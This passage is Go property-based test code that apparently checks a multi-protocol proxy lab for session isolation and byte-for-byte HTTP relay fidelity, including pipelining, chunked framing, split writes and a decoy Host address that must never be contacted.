				return map[string]interface{}{"names": [][]string{cc.Sessions[0].Names, cc.Sessions[1].Names}, "order": order, "families": famLabel(cc)}
			})
			countFams(r, "interleave", cc)
			if err := checkIso(cc); err != nil {
				if strings.HasPrefix(err.Error(), "infra:") {
					rt.Fatalf("%v", err)
				}
				r.Fail(rt, "TestInterleavings", cc, "%v", err)
			}
		}
		check(c.Order)
		if total <= 7 {
			merges(counts, 40, func(o []int) bool { check(o); return true })
			r.Label("interleave/all-merges-swept", 1)
		}
	})
}

func TestHistories(t *testing.T) {
	r := vlib.Open(prop)
	var ic isoCase
	if vlib.ReplayCase("TestHistories", &ic) {
		if err := checkIso(ic); err != nil {
			r.Violation(t, "TestHistories", ic, err.Error())
		}
		return
	}
	r.Rule("sequential histories: N in 1..20 earlier sessions run to completion one after another on a fresh instance, then a probe session (same session grammar incl. the shared vocabulary in drawn spellings, drawn address families, drawn endings: half-close / protocol goodbye / abort); oracle = the probe's bytes and events equal those of the probe alone on a fresh instance; non-trivial = >=1 earlier session that changed state (login / cwd / mail)")
	r.Rapid(t, "TestHistories", r.Pick(50, 500), func(rt *rapid.T) {
		service := rapid.SampledFrom(services).Draw(rt, "service")
		key, udp := transport(service)
		c := isoCase{Service: key, UDP: udp, PortSpread: rapid.IntRange(0, 1).Draw(rt, "portspread")}
		n := rapid.OneOf(rapid.IntRange(1, 4), rapid.IntRange(1, 20)).Draw(rt, "nhistory")
		c.History = n
		c.Fams = genFams(rt, n+1)
		c.Shared = genShared(rt, service)
		for i := 0; i <= n; i++ {
			s := genSession(rt, service, i, c.Shared)
			c.Sessions = append(c.Sessions, s)
			for range s.Steps {
				c.Order = append(c.Order, i)
			}
		}
		r.Case("history/"+service, vlib.JSON(c), func() interface{} {
			return map[string]interface{}{"earlier_sessions": n, "probe": c.Sessions[n].Names, "families": famLabel(c)}
		})
		countFams(r, "history", c)
		if err := checkIso(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestHistories", c, "%v", err)
		}
	})
}

// TestHistoryThenOverlap combines the two: a history of sessions that ended (each the way
// it drew: plain close, the protocol's goodbye, abort) and then 2-3 sessions that are
// open at the same time. What an ended session leaves behind on the shared service
// object (pooled buffers, tables keyed by address, limiter buckets) may only bite when
// the NEXT sessions overlap - neither a lone probe nor an overlap on a fresh instance
// gets there.
func TestHistoryThenOverlap(t *testing.T) {
	r := vlib.Open(prop)
	var ic isoCase
	if vlib.ReplayCase("TestHistoryThenOverlap", &ic) {
		if err := checkIso(ic); err != nil {
			r.Violation(t, "TestHistoryThenOverlap", ic, err.Error())
		}
		return
	}
	r.Rule("history then overlap: H in 1..6 earlier sessions run to completion one after another on a fresh instance, each ended as drawn (half-close / the protocol's own goodbye - ftp+smtp QUIT, telnet ^D or exit, ldap unbind, redis QUIT, memcached quit, http Connection: close - / abort), then 2-3 sessions in a drawn interleaving of their steps (same grammar, shared vocabulary, drawn address families incl. IPv6); oracle = every session's bytes and events equal those of the same session alone on a fresh instance, one session id per connection; non-trivial = >=1 ended earlier session and >=1 alternation among the overlapping ones")
	r.Rapid(t, "TestHistoryThenOverlap", r.Pick(45, 450), func(rt *rapid.T) {
		service := rapid.SampledFrom(services).Draw(rt, "service")
		key, udp := transport(service)
		c := isoCase{Service: key, UDP: udp, PortSpread: rapid.IntRange(0, 1).Draw(rt, "portspread")}
		h := rapid.OneOf(rapid.IntRange(1, 2), rapid.IntRange(1, 6)).Draw(rt, "nhistory")
		k := rapid.IntRange(2, 3).Draw(rt, "noverlap")
		c.Prefix = h
		c.Fams = genFams(rt, h+k)
		c.EarlyClose = !udp && rapid.IntRange(0, 3).Draw(rt, "early-close") == 0
		c.Shared = genShared(rt, service)
		left := make([]int, h+k)
		total := 0
		for i := 0; i < h+k; i++ {
			s := genSession(rt, service, i, c.Shared)
			c.Sessions = append(c.Sessions, s)
			if i < h {
				for range s.Steps {
					c.Order = append(c.Order, i)
				}
			} else {
				left[i] = len(s.Steps)
				total += len(s.Steps)
			}
		}
		for n := 0; n < total; {
			i := h + rapid.IntRange(0, k-1).Draw(rt, "pick")
			if left[i] > 0 {
				left[i]--
				c.Order = append(c.Order, i)
				n++
			}
		}
		fp := ""
		if alternations(c.Order[len(c.Order)-total:]) >= 1 {
			fp = vlib.JSON(c)
		}
		r.Case("history-overlap/"+service, fp, func() interface{} {
			return map[string]interface{}{"earlier_sessions": h, "overlapping": k, "order": c.Order, "last_steps": lastNames(c), "families": famLabel(c)}
		})
		countFams(r, "history-overlap", c)
		if err := checkIso(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestHistoryThenOverlap", c, "%v", err)
		}
	})
}

func lastNames(c isoCase) []string {
	var out []string
	for _, s := range c.Sessions {
		n := ""
		if len(s.Names) > 0 {
			n = s.Names[len(s.Names)-1]
		}
		out = append(out, n+"/"+s.End)
	}
	return out
}
