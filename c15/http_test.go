package c15

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/textproto"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"pgregory.net/rapid"

	"verif/lab"
	"verif/vlib"
)

type hdr struct {
	N string `json:"n"`
	V string `json:"v"`
}

type httpResp struct {
	Code    int      `json:"code"`
	Reason  string   `json:"reason"`
	Headers []hdr    `json:"headers"`
	Body    bodySpec `json:"body"`
	Framing string   `json:"framing"` // cl | chunked | none (bodyless status)
	Chunks  []int    `json:"chunks,omitempty"`
	Cuts    []int    `json:"cuts,omitempty"` // write boundaries inside the serialised reply
}

type httpReq struct {
	Method  string   `json:"method"`
	Path    string   `json:"path"` // appended to the correlation tag
	Host    string   `json:"host"` // "" = the decoy's address
	HostAt  int      `json:"host_at"`
	Headers []hdr    `json:"headers"`
	Body    bodySpec `json:"body"`
	Framing string   `json:"framing"` // none | cl | chunked
	Chunks  []int    `json:"chunks,omitempty"`
	Resp    httpResp `json:"resp"`
}

type httpConn struct {
	Svc       int  `json:"svc"` // 0: director host with port; 1, 2: two services / ports sharing one director whose host has no port
	Pipelined bool `json:"pipelined"`
	Cut       int  `json:"cut"` // offset into the client's byte stream where the write is split (<=0: none)
	// HalfClose: the client ends its sending side (TCP half-close) right after the last
	// byte of its last request and then reads the outstanding replies
	HalfClose bool      `json:"half_close,omitempty"`
	// Ahead (lock-step only): every write of a request also carries the first Ahead bytes
	// of the next request - the client then waits for the reply before it sends the rest
	// (a pipelining client whose stream is segmented by the network; seed C15-r5-1: a reply
	// held back while unanswered client bytes are buffered)
	Ahead int       `json:"ahead,omitempty"`
	Reqs  []httpReq `json:"reqs"`
}

type httpCase struct {
	Conns []httpConn `json:"conns"`
}

func chunked(body []byte, sizes []int) []byte {
	var b bytes.Buffer
	off := 0
	for i, s := range sizes {
		if s <= 0 || off >= len(body) {
			continue
		}
		if off+s > len(body) {
			s = len(body) - off
		}
		if i%2 == 0 {
			fmt.Fprintf(&b, "%x\r\n", s)
		} else {
			fmt.Fprintf(&b, "%X\r\n", s)
		}
		b.Write(body[off : off+s])
		b.WriteString("\r\n")
		off += s
	}
	if off < len(body) {
		fmt.Fprintf(&b, "%x\r\n", len(body)-off)
		b.Write(body[off:])
		b.WriteString("\r\n")
	}
	b.WriteString("0\r\n\r\n")
	return b.Bytes()
}

func (q httpReq) host(decoy string) string {
	if q.Host == "" {
		return decoy
	}
	return q.Host
}

func (q httpReq) wire(tag, decoy string) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s%s HTTP/1.1\r\n", q.Method, tag, q.Path)
	hostAt := q.HostAt
	if hostAt > len(q.Headers) {
		hostAt = len(q.Headers)
	}
	for i, h := range q.Headers {
		if i == hostAt {
			fmt.Fprintf(&b, "Host: %s\r\n", q.host(decoy))
		}
		fmt.Fprintf(&b, "%s: %s\r\n", h.N, h.V)
	}
	if hostAt >= len(q.Headers) {
		fmt.Fprintf(&b, "Host: %s\r\n", q.host(decoy))
	}
	body := q.Body.bytes()
	switch q.Framing {
	case "cl":
		fmt.Fprintf(&b, "Content-Length: %d\r\n\r\n", len(body))
		b.Write(body)
	case "chunked":
		b.WriteString("Transfer-Encoding: chunked\r\n\r\n")
		b.Write(chunked(body, q.Chunks))
	default:
		b.WriteString("\r\n")
	}
	return b.Bytes()
}

func (q httpReq) body() []byte {
	if q.Framing == "none" {
		return nil
	}
	return q.Body.bytes()
}

func bodyless(code int) bool { return code == 204 || code == 304 }

func (p httpResp) body(method string) []byte {
	if method == "HEAD" || bodyless(p.Code) || p.Framing == "none" {
		return nil
	}
	return p.Body.bytes()
}

func (p httpResp) wire(method string) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "HTTP/1.1 %d %s\r\n", p.Code, p.Reason)
	for _, h := range p.Headers {
		fmt.Fprintf(&b, "%s: %s\r\n", h.N, h.V)
	}
	body := p.Body.bytes()
	switch {
	case bodyless(p.Code) || p.Framing == "none":
		b.WriteString("\r\n")
	case p.Framing == "chunked":
		b.WriteString("Transfer-Encoding: chunked\r\n\r\n")
		if method != "HEAD" {
			b.Write(chunked(body, p.Chunks))
		}
	default:
		fmt.Fprintf(&b, "Content-Length: %d\r\n\r\n", len(body))
		if method != "HEAD" {
			b.Write(body)
		}
	}
	return b.Bytes()
}

// framing headers describe how the body is delimited on one hop; they are compared
// through the body they delimit, not as part of the header multimap.
func framingHeader(canon string) bool {
	return canon == "Content-Length" || canon == "Transfer-Encoding"
}

func multimap(hs []hdr) map[string][]string {
	m := map[string][]string{}
	for _, h := range hs {
		k := textproto.CanonicalMIMEHeaderKey(h.N)
		if framingHeader(k) {
			continue
		}
		m[k] = append(m[k], h.V)
	}
	return m
}

func multimapOf(h http.Header) map[string][]string {
	m := map[string][]string{}
	for k, v := range h {
		k = textproto.CanonicalMIMEHeaderKey(k)
		if framingHeader(k) {
			continue
		}
		m[k] = append(m[k], v...)
	}
	return m
}

func diffMultimap(got, want map[string][]string) string {
	var keys []string
	for k := range got {
		keys = append(keys, k)
	}
	for k := range want {
		if _, ok := got[k]; !ok {
			keys = append(keys, k)
		}
	}
	sort.Strings(keys)
	for _, k := range keys {
		g, gok := got[k]
		w, wok := want[k]
		switch {
		case !wok:
			return fmt.Sprintf("header %q %q arrived but was never sent (injected)", k, g)
		case !gok:
			return fmt.Sprintf("header %q %q was sent but did not arrive (dropped)", k, w)
		case strings.Join(g, "\x00") != strings.Join(w, "\x00"):
			return fmt.Sprintf("header %q arrived with values %q, sent %q", k, g, w)
		}
	}
	return ""
}

type httpClientResult struct {
	local    net.Addr
	got      []*gotResp
	err      error
	sentReqs int
}

type gotResp struct {
	status string
	code   int
	header http.Header
	body   []byte
}

func (e *labEnv) httpTarget(svc int) (string, *httpBackend) {
	switch svc {
	case 1:
		return e.addr(e.http2Port), e.http2B
	case 2:
		return e.addr(e.http3Port), e.http3B
	}
	return e.addr(e.httpPort), e.httpB
}

func (e *labEnv) httpBackends() []*httpBackend { return []*httpBackend{e.httpB, e.http2B, e.http3B} }

func (e *labEnv) resetHTTP() {
	for _, b := range e.httpBackends() {
		b.reset()
	}
}

func writeCut(c net.Conn, data []byte, cut int) error {
	c.SetWriteDeadline(time.Now().Add(30 * time.Second))
	if cut > 0 && cut < len(data) {
		if _, err := c.Write(data[:cut]); err != nil {
			return err
		}
		time.Sleep(2 * time.Millisecond) // the first piece travels (and is read) alone
		_, err := c.Write(data[cut:])
		return err
	}
	_, err := c.Write(data)
	return err
}

func readResp(br *bufio.Reader, c net.Conn, method string) (*gotResp, error) {
	c.SetReadDeadline(time.Now().Add(waitBound))
	resp, err := http.ReadResponse(br, &http.Request{Method: method})
	if err != nil {
		return nil, err
	}
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return nil, fmt.Errorf("after %d body bytes: %w", len(body), err)
	}
	return &gotResp{status: resp.Status, code: resp.StatusCode, header: resp.Header.Clone(), body: body}, nil
}

func (e *labEnv) runHTTPConn(hc httpConn, epoch, ci int) *httpClientResult {
	res := &httpClientResult{}
	addr, _ := e.httpTarget(hc.Svc)
	c, err := dialTCPFrom(ci, addr)
	if err != nil {
		res.err = fmt.Errorf("infra: dial proxy %s: %v", addr, err)
		return res
	}
	defer c.Close()
	c.(*net.TCPConn).SetNoDelay(true)
	res.local = c.LocalAddr()
	var wires [][]byte
	for ri, q := range hc.Reqs {
		wires = append(wires, q.wire(httpTag(epoch, ci, ri), e.decoy.host()))
	}
	br := bufio.NewReader(c)
	if hc.Pipelined {
		stream := bytes.Join(wires, nil)
		werr := make(chan error, 1)
		go func() {
			err := writeCut(c, stream, hc.Cut)
			if err == nil && hc.HalfClose {
				c.(*net.TCPConn).CloseWrite()
			}
			werr <- err
		}()
		res.sentReqs = len(hc.Reqs)
		for ri, q := range hc.Reqs {
			g, err := readResp(br, c, q.Method)
			if err != nil {
				res.err = replyErr(ri, len(hc.Reqs), err, "pipelined")
				return res
			}
			res.got = append(res.got, g)
		}
		if err := <-werr; err != nil {
			res.err = fmt.Errorf("infra: client write: %v", err)
		}
		return res
	}
	stream := bytes.Join(wires, nil)
	pos, end := 0, 0
	for ri, q := range hc.Reqs {
		end += len(wires[ri])
		upto := end
		if hc.Ahead > 0 && ri < len(hc.Reqs)-1 {
			upto = end + minInt(hc.Ahead, len(wires[ri+1])-1)
		}
		if upto > pos {
			if err := writeCut(c, stream[pos:upto], hc.Cut-pos); err != nil {
				res.err = &timeoutErr{fmt.Sprintf("client could not write request %d: %v", ri, err)}
				return res
			}
			pos = upto
		}
		if hc.HalfClose && ri == len(hc.Reqs)-1 {
			c.(*net.TCPConn).CloseWrite()
		}
		res.sentReqs = ri + 1
		g, err := readResp(br, c, q.Method)
		if err != nil {
			res.err = replyErr(ri, len(hc.Reqs), err, "lock-step")
			return res
		}
		res.got = append(res.got, g)
	}
	return res
}

func replyErr(ri, n int, err error, mode string) error {
	msg := fmt.Sprintf("client did not receive the reply to request %d of %d (%s): %v", ri, n, mode, err)
	return &timeoutErr{msg}
}

func checkHTTP(t testing.TB, c httpCase) error {
	err := guard(func() error { return checkHTTPOnce(t, c) })
	if _, ok := err.(*timeoutErr); ok {
		// evidence is "did not arrive in time": measure again before reporting
		if err2 := guard(func() error { return checkHTTPOnce(t, c) }); err2 == nil {
			vlib.Open(prop).Flaky("http: " + err.Error())
			return nil
		} else {
			return err2
		}
	}
	return err
}

func checkHTTPOnce(t testing.TB, c httpCase) error {
	e := getEnv(t)
	epoch := nextEpoch()
	d0 := e.decoy.count()
	e.resetHTTP()
	mark := e.cap.Len()
	for ci, hc := range c.Conns {
		_, be := e.httpTarget(hc.Svc)
		for ri, q := range hc.Reqs {
			be.install(httpTag(epoch, ci, ri), &httpScript{reply: q.Resp.wire(q.Method), cuts: q.Resp.Cuts})
		}
	}
	results := make([]*httpClientResult, len(c.Conns))
	var wg sync.WaitGroup
	for ci := range c.Conns {
		wg.Add(1)
		go func(ci int) {
			defer wg.Done()
			results[ci] = e.runHTTPConn(c.Conns[ci], epoch, ci)
		}(ci)
	}
	wg.Wait()
	defer e.resetHTTP()
	for _, r := range results {
		if isInfra(r.err) {
			return r.err
		}
	}
	if e.decoy.count() != d0 {
		return fmt.Errorf("the decoy address %s (named only in the clients' Host headers) was contacted: %s", e.decoy.host(), e.decoy.last())
	}
	// nothing may arrive at a backend other than the one configured for the port the
	// client connected to (scripts are installed at that backend only)
	for _, b := range e.httpBackends() {
		if _, _, stray, _ := b.snapshot(); len(stray) > 0 {
			return fmt.Errorf("backend %s received something no client sent to the proxy port it is configured for: %s", b.l.Addr(), stray[0])
		}
	}
	var firstTimeout error
	for ci, hc := range c.Conns {
		r := results[ci]
		_, be := e.httpTarget(hc.Svc)
		seen, order, stray, remotes := be.snapshot()
		if err := fromProxyHost(remotes); err != nil {
			return err
		}
		// what the backend parsed, request by request
		var wantOrder []string
		for ri, q := range hc.Reqs {
			tag := httpTag(epoch, ci, ri)
			if ri < r.sentReqs && (ri < len(r.got) || r.err == nil) {
				wantOrder = append(wantOrder, tag)
			}
			ss := seen[tag]
			if len(ss) == 0 {
				if ri < len(r.got) {
					return fmt.Errorf("conn %d request %d: client got a reply but the backend never saw the request", ci, ri)
				}
				continue // reported through the client's missing reply below
			}
			if len(ss) > 1 {
				return fmt.Errorf("conn %d request %d reached the backend %d times", ci, ri, len(ss))
			}
			s := ss[0]
			where := fmt.Sprintf("conn %d request %d (%s %s%s)", ci, ri, q.Method, tag, short([]byte(q.Path)))
			if s.method != q.Method {
				return fmt.Errorf("%s: backend saw method %q", where, s.method)
			}
			if s.target != tag+q.Path {
				return fmt.Errorf("%s: backend saw target %q", where, s.target)
			}
			if s.host != q.host(e.decoy.host()) {
				return fmt.Errorf("%s: backend saw Host %q, client sent %q", where, s.host, q.host(e.decoy.host()))
			}
			if d := diffMultimap(multimapOf(s.header), multimap(q.Headers)); d != "" {
				return fmt.Errorf("%s: request headers changed on the way to the backend: %s", where, d)
			}
			if !bytes.Equal(s.body, q.body()) {
				return fmt.Errorf("%s: request body changed on the way to the backend: %s", where, firstDiff(s.body, q.body()))
			}
		}
		key := httpTag(epoch, ci, 0)[:8]
		gotOrder := order[key]
		if len(gotOrder) >= len(wantOrder) && strings.Join(gotOrder[:len(wantOrder)], ",") != strings.Join(wantOrder, ",") {
			return fmt.Errorf("conn %d: requests reached the backend in order %v, sent %v", ci, gotOrder, wantOrder)
		}
		// what the client read back
		for ri, g := range r.got {
			q := hc.Reqs[ri]
			where := fmt.Sprintf("conn %d reply %d (%s -> %d %s)", ci, ri, q.Method, q.Resp.Code, q.Resp.Reason)
			wantStatus := fmt.Sprintf("%d %s", q.Resp.Code, q.Resp.Reason)
			if g.status != wantStatus {
				return fmt.Errorf("%s: client read status %q, backend sent %q", where, g.status, wantStatus)
			}
			if d := diffMultimap(multimapOf(g.header), multimap(q.Resp.Headers)); d != "" {
				return fmt.Errorf("%s: reply headers changed on the way to the client: %s", where, d)
			}
			if want := q.Resp.body(q.Method); !bytes.Equal(g.body, want) {
				return fmt.Errorf("%s: reply body changed on the way to the client: %s", where, firstDiff(g.body, want))
			}
		}
		if len(stray) > 0 {
			return fmt.Errorf("backend received something no client sent: %s", stray[0])
		}
		if r.err != nil {
			if firstTimeout == nil {
				seenN := 0
				for ri := range hc.Reqs {
					if len(seen[httpTag(epoch, ci, ri)]) > 0 {
						seenN++
					}
				}
				firstTimeout = &timeoutErr{fmt.Sprintf("conn %d: %v (client sent %d requests, backend saw %d of them)", ci, r.err, r.sentReqs, seenN)}
			}
			continue
		}
		// one event per relayed request, attributed to this client
		var want []string
		for _, q := range hc.Reqs {
			want = append(want, q.Method)
		}
		ok := e.cap.WaitFor(waitBound, func(evs []lab.Ev) bool {
			return covered(want, httpEventMethods(clientEvents(evs, mark, r.local)))
		})
		if !ok {
			got := httpEventMethods(clientEvents(e.cap.Events(), mark, r.local))
			return &timeoutErr{fmt.Sprintf("conn %d (%s): %d requests %v were relayed but the events attributed to that address are %v", ci, r.local, len(want), want, got)}
		}
	}
	if firstTimeout != nil {
		return firstTimeout
	}
	if e.decoy.count() != d0 {
		return fmt.Errorf("the decoy address was contacted: %s", e.decoy.last())
	}
	return nil
}

// covered reports whether every wanted key is matched by an event of its own
// (multiset inclusion; the statement does not order events).
func covered(want, got []string) bool {
	have := map[string]int{}
	for _, g := range got {
		have[g]++
	}
	for _, w := range want {
		if have[w] == 0 {
			return false
		}
		have[w]--
	}
	return true
}

// ---- generator ----

var (
	methods     = []string{"GET", "GET", "POST", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "REPORT", "M-SEARCH"}
	headerNames = []string{"Accept", "accept", "ACCEPT-LANGUAGE", "Cookie", "cookie", "X-Tag", "x-tag", "X_Under", "Authorization", "Referer",
		"User-Agent", "Content-Type", "Accept-Encoding", "If-None-Match", "Range", "X-Forwarded-For", "Via", "Origin", "DNT", "X-Request-ID", "Cookie"}
	respHeaderNames = []string{"Content-Type", "Server", "Set-Cookie", "Set-Cookie", "set-cookie", "X-Powered-By", "ETag", "Location", "Vary", "Date", "Cache-Control", "X-Frame-Options", "x-lower"}
	pathSegs        = []string{"a", "index.html", "%2F", "%41b", "%c3%a9", "a:b@c", "x;y=1,z", "~u-_.", "(p)'!*", "$&+="}
	queries         = []string{"", "", "?", "?a=b", "?a=b&c=%20d", "?q=/x/?y", "?k=v;k2=v2", "?%3f"}
	hosts           = []string{"", "", "", "example.invalid", "example.invalid:8080", "[::1]:9"}
	valueRunes      = []rune("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 \t!#$%&'()*+,-./:;<=>?@[\\]^_`{|}~\"")
	codes           = []int{200, 200, 200, 201, 202, 206, 301, 400, 403, 404, 418, 500, 503, 204, 304}
	reasons         = []string{"OK", "Not Found", "Created", "Fine By Me", "Internal Server Error", "x"}
)

func genLen(t *rapid.T, label string) int {
	switch rapid.IntRange(0, 9).Draw(t, label+"-bucket") {
	case 0, 1:
		return 0
	case 2, 3:
		return rapid.IntRange(1, 16).Draw(t, label)
	case 4, 5:
		return rapid.IntRange(17, 600).Draw(t, label)
	case 6, 7:
		return rapid.IntRange(601, 9000).Draw(t, label)
	case 8:
		return rapid.IntRange(9001, 65536).Draw(t, label)
	default:
		return rapid.SampledFrom([]int{4095, 4096, 4097, 8192, 32768, 65535, 65536}).Draw(t, label)
	}
}

func genBody(t *rapid.T, label string) bodySpec {
	return bodySpec{Len: genLen(t, label), Seed: rapid.IntRange(0, 1000).Draw(t, label+"-seed"), Kind: rapid.IntRange(0, 2).Draw(t, label+"-kind")}
}

func genValue(t *rapid.T, label string) string {
	max := 24
	if rapid.IntRange(0, 9).Draw(t, label+"-long") == 0 {
		max = 300
	}
	v := rapid.StringOfN(rapid.SampledFrom(valueRunes), 0, max, -1).Draw(t, label)
	return strings.Trim(v, " \t")
}

func genHeaders(t *rapid.T, label string, pool []string, max int) []hdr {
	n := rapid.IntRange(0, max).Draw(t, label+"-n")
	var out []hdr
	haveUA := false
	for i := 0; i < n; i++ {
		var name string
		if rapid.IntRange(0, 4).Draw(t, label+"-custom") == 0 {
			name = "x-" + rapid.StringMatching(`[a-z0-9]{1,8}`).Draw(t, label+"-name")
		} else {
			name = rapid.SampledFrom(pool).Draw(t, label+"-name")
		}
		v := genValue(t, label+"-value")
		if textproto.CanonicalMIMEHeaderKey(name) == "User-Agent" {
			// a singleton field; net/http cannot emit an empty one
			if haveUA {
				continue
			}
			haveUA = true
			if v == "" {
				v = "curl/7.0"
			}
		}
		out = append(out, hdr{N: name, V: v})
	}
	return out
}

func genChunks(t *rapid.T, label string, n int) []int {
	if n == 0 {
		return nil
	}
	k := rapid.IntRange(1, 4).Draw(t, label+"-k")
	var out []int
	for i := 0; i < k; i++ {
		out = append(out, rapid.IntRange(1, maxInt(1, n)).Draw(t, label))
	}
	return out
}

func maxInt(a, b int) int {
	if a > b {
		return a
	}
	return b
}

func genCuts(t *rapid.T, label string, n int) []int {
	k := rapid.IntRange(0, 4).Draw(t, label+"-k")
	var out []int
	for i := 0; i < k; i++ {
		out = append(out, rapid.IntRange(1, maxInt(1, n-1)).Draw(t, label))
	}
	sort.Ints(out)
	return out
}

func genHTTPReq(t *rapid.T) httpReq {
	q := httpReq{Method: rapid.SampledFrom(methods).Draw(t, "method")}
	nseg := rapid.IntRange(0, 3).Draw(t, "nseg")
	for i := 0; i < nseg; i++ {
		q.Path += "/" + rapid.SampledFrom(pathSegs).Draw(t, "seg")
	}
	if rapid.IntRange(0, 5).Draw(t, "trailing-slash") == 0 {
		q.Path += "/"
	}
	q.Path += rapid.SampledFrom(queries).Draw(t, "query")
	q.Host = rapid.SampledFrom(hosts).Draw(t, "host")
	q.Headers = genHeaders(t, "hdr", headerNames, 10)
	q.HostAt = rapid.IntRange(0, len(q.Headers)).Draw(t, "host-at")
	q.Body = genBody(t, "body")
	switch {
	case q.Body.Len == 0:
		q.Framing = rapid.SampledFrom([]string{"none", "none", "cl", "chunked"}).Draw(t, "framing")
	default:
		q.Framing = rapid.SampledFrom([]string{"cl", "chunked"}).Draw(t, "framing")
	}
	if q.Framing == "chunked" {
		q.Chunks = genChunks(t, "chunk", q.Body.Len)
	}
	p := httpResp{Code: rapid.SampledFrom(codes).Draw(t, "code"), Reason: rapid.SampledFrom(reasons).Draw(t, "reason")}
	p.Headers = genHeaders(t, "rhdr", respHeaderNames, 6)
	p.Body = genBody(t, "rbody")
	if bodyless(p.Code) {
		p.Framing = "none"
		p.Body.Len = 0
	} else {
		p.Framing = rapid.SampledFrom([]string{"cl", "chunked"}).Draw(t, "rframing")
		if p.Framing == "chunked" {
			p.Chunks = genChunks(t, "rchunk", p.Body.Len)
		}
	}
	p.Cuts = genCuts(t, "rcut", len(p.wire(q.Method)))
	q.Resp = p
	return q
}

func genHTTPConn(t *rapid.T) httpConn {
	hc := httpConn{Svc: rapid.IntRange(0, 2).Draw(t, "svc"), Pipelined: rapid.Bool().Draw(t, "pipelined")}
	n := rapid.IntRange(1, 4).Draw(t, "nreq")
	total := 0
	var lens []int
	for i := 0; i < n; i++ {
		q := genHTTPReq(t)
		hc.Reqs = append(hc.Reqs, q)
		l := len(q.wire(httpTag(0, 0, 0), "127.0.0.1:65000"))
		lens = append(lens, l)
		total += l
	}
	switch rapid.IntRange(0, 4).Draw(t, "cutkind") {
	case 0:
		hc.Cut = 0
	case 1: // inside the first request's head
		hc.Cut = rapid.IntRange(1, minInt(lens[0]-1, 80)).Draw(t, "cut")
	case 2: // around a request boundary
		b := 0
		k := rapid.IntRange(0, n-1).Draw(t, "cut-req")
		for i := 0; i <= k; i++ {
			b += lens[i]
		}
		hc.Cut = b + rapid.IntRange(-3, 3).Draw(t, "cut-delta")
	default:
		hc.Cut = rapid.IntRange(1, maxInt(1, total-1)).Draw(t, "cut")
	}
	if hc.Cut < 0 || hc.Cut >= total {
		hc.Cut = 0
	}
	hc.HalfClose = rapid.IntRange(0, 2).Draw(t, "half-close") == 0
	if !hc.Pipelined && n > 1 && rapid.IntRange(0, 2).Draw(t, "ahead") == 0 {
		hc.Ahead = rapid.SampledFrom([]int{1, 2, 3, 4, 16, 40, 200, 5000}).Draw(t, "ahead-bytes")
	}
	return hc
}

func genHTTPCase(t *rapid.T) httpCase {
	n := rapid.SampledFrom([]int{1, 1, 2, 3}).Draw(t, "nconn")
	var c httpCase
	for i := 0; i < n; i++ {
		c.Conns = append(c.Conns, genHTTPConn(t))
	}
	return c
}

func (c httpCase) nontrivial() bool {
	for _, hc := range c.Conns {
		if len(hc.Reqs) >= 2 {
			return true
		}
		for _, q := range hc.Reqs {
			if len(q.body()) > 0 {
				return true
			}
		}
	}
	return false
}

func (c httpCase) label() string {
	pip, lock := false, false
	for _, hc := range c.Conns {
		if hc.Pipelined && len(hc.Reqs) > 1 {
			pip = true
		} else {
			lock = true
		}
	}
	mode := "lockstep"
	if pip && lock {
		mode = "mixed"
	} else if pip {
		mode = "pipelined"
	}
	return fmt.Sprintf("http/%s/clients=%d", mode, len(c.Conns))
}

const httpRule = "HTTP: 1..3 concurrent client connections, each drawn onto one of three http-proxy ports (own director whose host has a port / two services on two ports sharing ONE director whose host has no port, backends at 127.0.0.2:<same port>, so successive connections alternate between the shared director's ports in drawn order), each 1..4 requests (11 methods, origin-form targets with pct-encoding and queries, 0..10 headers with repeated and differently-cased names, Host naming the decoy, bodies 0..64 KiB as Content-Length or chunked, body content random / text / HTTP look-alike), lock-step (1 in 3 with the first 1..5000 bytes of the NEXT request already riding on each request's write, the client waiting for the reply before it sends the rest) or pipelined, one cut of the client stream (none, in the first head, around a request boundary, anywhere), the client half-closing after its last request byte (1 in 3); backend replies (15 status codes, 0..6 headers, bodies 0..64 KiB as Content-Length or chunked) written in 1..5 pieces; oracle: backend's parsed view == sent, client's parsed view == backend's script, events attributed to the client's address, decoy untouched; non-trivial = a request with a body or >=2 requests on one connection"

func TestHTTP(t *testing.T) {
	r := vlib.Open(prop)
	r.Rule(httpRule)
	var rc httpCase
	if vlib.ReplayCase("TestHTTP", &rc) {
		if err := checkHTTP(t, rc); err != nil {
			if isInfra(err) {
				infraExit(err)
			}
			r.Violation(t, "TestHTTP", rc, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	getEnv(t)
	r.Rapid(t, "TestHTTP", r.Pick(1200, 8000), func(rt *rapid.T) {
		c := genHTTPCase(rt)
		c = excludeKnownHTTP(r, c)
		fp := ""
		if c.nontrivial() {
			fp = vlib.JSON(c)
		}
		r.Case(c.label(), fp, func() interface{} { return c })
		for _, hc := range c.Conns {
			if hc.Cut > 0 {
				r.Label("http/conn/cut", 1)
			}
			if hc.HalfClose {
				r.Label("http/conn/client-half-close", 1)
			}
			if hc.Ahead > 0 {
				r.Label("http/conn/next-request-prefix-rides-ahead", 1)
			}
			r.Label(fmt.Sprintf("http/conn/director=%s", []string{"host-with-port", "shared-portless/port-a", "shared-portless/port-b"}[hc.Svc%3]), 1)
			for _, q := range hc.Reqs {
				r.Label("http/req/framing="+q.Framing, 1)
				r.Label("http/reply/framing="+q.Resp.Framing, 1)
			}
		}
		if err := checkHTTP(t, c); err != nil {
			if isInfra(err) {
				infraExit(err)
			}
			r.Fail(rt, "TestHTTP", c, "%v", err)
		}
	})
}

// excludeKnownHTTP rewrites a generated case so that it avoids findings listed as known.
func excludeKnownHTTP(r *vlib.Run, c httpCase) httpCase {
	if known(r, kfHeadChunked) {
		for ci := range c.Conns {
			for ri := range c.Conns[ci].Reqs {
				q := &c.Conns[ci].Reqs[ri]
				if q.Method == "HEAD" && q.Resp.Framing == "chunked" {
					q.Resp.Framing = "cl"
					q.Resp.Chunks = nil
					r.Excluded(kfHeadChunked)
